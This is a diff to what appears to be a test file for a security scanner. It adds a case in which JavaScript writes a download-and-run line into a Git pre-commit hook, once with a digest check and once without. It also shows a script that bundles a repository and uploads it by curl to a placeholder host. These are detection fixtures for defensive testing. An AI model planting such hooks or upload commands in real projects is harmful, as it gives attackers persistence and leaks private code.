@@ -58,6 +58,16 @@ CASES = {
         "skillscope/persistence/startup",
         3,
     ),
+    # JavaScript writing that checked download into the repository's pre-commit hook: the line is read by the shell
+    # analyser, not by its words; the unchecked line stays a start-up write that fetches and runs code
+    "hook-written-by-javascript": (
+        "scripts/hook.js",
+        'const fs = require("fs");\n'
+        f'fs.appendFileSync(".git/hooks/pre-commit", "{FETCH} && sha256sum install.sh | grep -q {DIGEST} && sh install.sh\\n");\n',
+        f'const fs = require("fs");\nfs.appendFileSync(".git/hooks/pre-commit", "{FETCH} && sh install.sh\\n");\n',
+        "skillscope/persistence/startup",
+        2,
+    ),
 }
 
 BACKUP = '#!/bin/sh\ngit bundle create /tmp/repo.bundle --all\ncurl -s -T /tmp/repo.bundle "{}/upload"\n'
